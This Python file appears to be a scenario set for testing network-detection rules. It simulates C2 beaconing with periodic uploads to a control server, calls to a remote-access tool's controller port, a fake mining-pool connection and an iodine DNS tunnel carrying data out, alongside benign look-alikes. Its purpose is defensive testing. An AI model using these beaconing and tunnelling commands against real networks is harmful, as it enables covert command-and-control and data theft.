"""What a lead rule looks for and what resembles it: regular calls, a miner's connection, a tunnel in name queries. All in real time."""

import hashlib
import random
from collections.abc import Iterator

from lab import servers
from lab.attacks import OFFENDER
from lab.benign import ssh_options
from lab.scenario import Expected, in_both, scenario
from lab.topology import IPV4, IPV6, Family, Lab, literal, wait

ODD_PORT, TROJAN_PORT, POOL_PORT = 8088, 4782, 3333
SERVER, NAME_SERVER, OTHER_RESOLVER = 10, 53, 54
UPLOADED = 60_000


def lead(rule: str, port: int, offender: str = OFFENDER) -> tuple[Expected, ...]:
    """The finding of a lead rule, which is called after its kind."""
    return (Expected(rule, rule.replace("-", "_"), offender, (port,)),)


def turns(count: int, pause: float, jitter: float) -> Iterator[int]:
    """Number the turns; between two of them `pause` seconds pass, more or less by up to the part `jitter`."""
    chance = random.Random(count)
    for turn in range(count):
        yield turn
        wait(pause * chance.uniform(1 - jitter, 1 + jitter))


def control_server(lab: Lab, family: Family) -> None:
    """A web server with TLS on a port of no meaning, which takes uploads."""
    lab.customer(10)
    servers.nginx(lab, lab.internet, family.alpha(SERVER), port=ODD_PORT, tls=True)
    lab.file("gathered", "x" * UPLOADED)


@in_both(
    control_server,
    shows="A program asks one server{over} by TLS on port 8088 for orders every sixteen seconds, give or take a quarter, for 24 minutes; five times "
    "it uploads sixty kilobytes instead.",
    packages=("curl", "nginx-light", "openssl"),
    findings=lead("beacon", ODD_PORT),
)
def beacon(lab: Lab, family: Family) -> None:
    """Ninety calls."""
    server = f"https://{literal(family.alpha(SERVER))}:{ODD_PORT}"
    for turn in turns(90, 16, 0.25):
        if turn % 18 == 9:
            lab.customers[10].run("curl", "-sk", "-o", "/dev/null", "-T", lab.scratch / "gathered", f"{server}/in/", shown=turn == 9)
        else:
            lab.customers[10].run("curl", "-sk", "-o", "/dev/null", f"{server}/index.html", shown=turn == 0)


def echo_server(lab: Lab, family: Family) -> None:
    """Something that takes a line and gives it back, on the port that Quasar's controller listens on."""
    lab.customer(10)
    server = family.beta(SERVER)
    lab.internet.start("socat", f"TCP{family.version}-LISTEN:{TROJAN_PORT},bind={literal(server)},reuseaddr,fork", "EXEC:cat")
    servers.listening(lab.internet, server, TROJAN_PORT)


@in_both(
    echo_server,
    shows="A program calls one server{over} on port 4782, where the controller of a remote access tool waits, every twenty seconds, give or take a "
    "tenth, for 23 minutes.",
    packages=("socat",),
    findings=lead("beacon", TROJAN_PORT),
)
def beacon_trojan_port(lab: Lab, family: Family) -> None:
    """Seventy calls of a line each."""
    server = f"{literal(family.beta(SERVER))}:{TROJAN_PORT}"
    for turn in turns(70, 20, 0.1):
        lab.customers[10].run("sh", "-c", f"echo here | socat -t 1 - TCP:{server}", shown=turn == 0)


def watched_program(lab: Lab, family: Family) -> None:
    """A web server that is asked for its health on one odd port and takes measurements on another."""
    lab.customer(20)
    servers.nginx(lab, lab.internet, family.alpha(SERVER), port=ODD_PORT, tls=True)
    servers.nginx(lab, lab.internet, family.beta(SERVER), port=9880)
    lab.file("measured", "x" * 4000)


@in_both(
    watched_program,
    shows="Two agents{over} at the beat of a clock: one asks a server on port 8088 whether it is well every sixteen seconds, one sends four kilobytes of "
    "measurements to port 9880 as often, for 24 minutes.",
    packages=("curl", "nginx-light", "openssl"),
    customers=(20,),
)
def benign_agents(lab: Lab, family: Family) -> None:
    """Ninety calls each, none of which has more to say than the others."""
    health, measurements = f"https://{literal(family.alpha(SERVER))}:{ODD_PORT}/index.html", f"http://{literal(family.beta(SERVER))}:9880/in/"
    for turn in turns(90, 16, 0.05):
        lab.customers[20].run("curl", "-sk", "-o", "/dev/null", health, shown=turn == 0)
        lab.customers[20].run("curl", "-s", "-o", "/dev/null", "-T", lab.scratch / "measured", measurements, shown=turn == 0)


def half_dead_sites(lab: Lab, family: Family) -> None:
    """A network full of sites, and one whose owner has moved away."""
    lab.customer(20)
    lab.silent(family.network(family.delta(0)))
    servers.nginx(lab, lab.internet, family.everywhere)


@in_both(
    half_dead_sites,
    shows="A link checker walks slowly{over} through an old list of 136 sites, one every twelve seconds; every other one is dead.",
    packages=("curl", "nginx-light"),
    customers=(20,),
    remark="Twenty-seven minutes of real time: as many dead hosts as in slow-scan and at the same pace, but as many live ones between them.",
)
def benign_old_list(lab: Lab, family: Family) -> None:
    """Sixty-eight dead sites within half an hour."""
    for turn in turns(136, 12, 0.3):
        site = (family.delta if turn % 2 else family.gamma)(turn // 2 + 1)
        lab.customers[20].start("curl", "-s", "-m", 8, "-o", "/dev/null", f"http://{literal(site)}/index.html", shown=turn < 2)


def mining_pool(lab: Lab, family: Family) -> None:
    """A pool on Stratum's usual port."""
    lab.customer(10)
    lab.internet.start("python3", lab.tools / "stratum.py", "pool", family.alpha(SERVER), POOL_PORT)
    servers.listening(lab.internet, family.alpha(SERVER), POOL_PORT)


@in_both(
    mining_pool,
    shows="A worker is connected{over} to a mining pool on port 3333 for six minutes: jobs come, shares go.",
    packages=("python3",),
    findings=lead("mining", POOL_PORT),
    remark="Debian has no miner. Pool and worker are captures/lab/tools/stratum.py, which speaks Stratum over real TCP at a pool's pace and computes "
    "nothing: the shares are made up and the pool takes them all.",
)
def mining(lab: Lab, family: Family) -> None:
    """Six minutes of one connection."""
    lab.customers[10].run("python3", lab.tools / "stratum.py", "worker", family.alpha(SERVER), POOL_PORT, 360, seconds=400)


def servers_on_pool_ports(lab: Lab, family: Family) -> None:
    """SSH and the web on ports that pools use, too."""
    lab.customer(20)
    servers.sshd(lab, lab.internet, family.alpha(SERVER), port=8888)
    servers.nginx(lab, lab.internet, family.alpha(SERVER), port=9999)
    servers.nginx(lab, lab.internet, family.beta(SERVER), port=POOL_PORT)


@in_both(
    servers_on_pool_ports,
    shows="Long and quiet{over} on the ports of mining pools: an SSH session on 8888 that only says each ten seconds that it is alive, a slow download from "
    "9999, and a page on 3333 that is asked for again and again, for five minutes.",
    packages=("openssh-client", "openssh-server", "curl", "nginx-light"),
    customers=(20,),
)
def benign_pool_ports(lab: Lab, family: Family) -> None:
    """Three look-alikes side by side."""
    customer = lab.customers[20]
    alive = customer.start("ssh", *ssh_options(lab), "-p", 8888, "-o", "ServerAliveInterval=10", f"root@{family.alpha(SERVER)}", "sleep 300")
    customer.start("curl", "-s", "--limit-rate", 700, "-o", "/dev/null", f"http://{literal(family.alpha(SERVER))}:9999/200k")
    for turn in turns(30, 10, 0.2):
        customer.run("curl", "-s", "-o", "/dev/null", f"http://{literal(family.beta(SERVER))}:{POOL_PORT}/index.html", shown=turn == 0)
    alive.wait(30)


def tunnel_end(lab: Lab) -> None:
    """iodined as the name server of a domain, and a web server that listens inside the tunnel, too."""
    lab.customer(10)
    servers.nginx(lab, lab.internet, "0.0.0.0")
    lab.internet.start("iodined", "-f", "-c", "-P", "lab", "-l", IPV4.beta(NAME_SERVER), "10.99.0.1/24", "t.target.example")
    lab.file("gathered", "").write_bytes(random.randbytes(50_000))  # the tunnel packs what can be packed


def carry(lab: Lab, asked: str) -> None:
    """Up, down and idle."""
    customer = lab.customers[10]
    customer.start("iodine", "-f", "-r", "-P", "lab", asked, "t.target.example")
    wait(8)
    customer.run("curl", "-s", "-m", 60, "-o", "/dev/null", "-T", lab.scratch / "gathered", "http://10.99.0.1/in/")
    customer.run("curl", "-s", "-m", 60, "-o", "/dev/null", "http://10.99.0.1/in/gathered")
    wait(30)


@scenario(
    tunnel_end,
    shows="iodine carries IP inside name queries to its own name server: fifty kilobytes go up over HTTP and come down again, then it idles for half a minute.",
    packages=("iodine", "net-tools", "curl", "nginx-light"),
    findings=lead("dns-tunnel", 53),
    remark="The client asks its server itself. Through the provider's resolver the same tunnel shows nothing at the edge but the resolver's own queries.",
)
def dns_tunnel(lab: Lab) -> None:
    """Straight to the server."""
    carry(lab, IPV4.beta(NAME_SERVER))


def tunnel_behind_resolver(lab: Lab) -> None:
    """The same end, and somebody's resolver with an IPv6 address that asks it."""
    tunnel_end(lab)
    servers.names(lab.internet, IPV6.beta(NAME_SERVER), {}, f"--server=/t.target.example/{IPV4.beta(NAME_SERVER)}")


@scenario(
    tunnel_behind_resolver,
    shows="iodine carries IP inside name queries over IPv6 to somebody's resolver, which asks iodine's server: fifty kilobytes go up over HTTP and come down "
    "again, then it idles for half a minute.",
    packages=("iodine", "net-tools", "curl", "nginx-light", "dnsmasq-base"),
    findings=lead("dns-tunnel", 53, IPV6.own(10)),
    remark="Debian's iodine speaks IPv6 on the client's side only, so that a resolver stands between it and its server, as where the customer asks a public one.",
)
def dns_tunnel_v6(lab: Lab) -> None:
    """By way of a resolver."""
    carry(lab, IPV6.beta(NAME_SERVER))


def office(lab: Lab, family: Family) -> None:
    """A router's resolver that passes on what it is asked to a resolver outside, each question from a port of its own."""
    customer = lab.customer(20)
    own = f' do-daemonize: no\n username: ""\n chroot: ""\n directory: "{lab.scratch}"\n pidfile: ""\n use-syslog: no\n'
    answers = f'{own} interface: {family.everywhere}\n interface-automatic: yes\n access-control: {family.everywhere}/0 allow\n local-zone: "example." redirect\n'
    lab.internet.start("unbound", "-d", "-c", lab.file("authority.conf", f'server:\n{answers} local-data: "example. 30 IN A 203.0.113.80"\n'))
    passes_on = f'{own} interface: 127.0.0.1\n module-config: "iterator"\n local-zone: "example." nodefault\n'
    zone = f'forward-zone:\n name: "."\n forward-addr: {family.beta(NAME_SERVER)}\n'
    customer.start("unbound", "-d", "-c", lab.file("forwarder.conf", f"server:\n{passes_on}{zone}"))
    servers.listening(lab.internet, family.beta(NAME_SERVER), 53)
    servers.listening(customer, "127.0.0.1", 53)
    prints = [hashlib.sha256(str(number).encode()).hexdigest() for number in range(500)]
    lab.file("prints.txt", "".join(f"{one[:32]}.{one[32:]}.0.avqs.files.scanner.example A\n" for one in prints))
    lab.file("short.txt", "".join(f"host{number}.example A\n" for number in range(500)))


@in_both(
    office,
    shows="An office's virus scanner asks{over} for the fingerprints of five hundred files by name, through the office's resolver; beside it, an old program asks "
    "another resolver for five hundred short names, all from one port.",
    packages=("unbound", "dnsperf"),
    customers=(20,),
)
def benign_fingerprints(lab: Lab, family: Family) -> None:
    """Eight questions a second each: long names from many ports, short names from one."""
    old = lab.customers[20].start("dnsperf", "-s", family.beta(OTHER_RESOLVER), "-d", lab.scratch / "short.txt", "-Q", 8, "-n", 1, "-q", 1)
    lab.customers[20].run("dnsperf", "-s", "127.0.0.1", "-d", lab.scratch / "prints.txt", "-Q", 8, "-n", 1, seconds=80)
    old.wait(20)
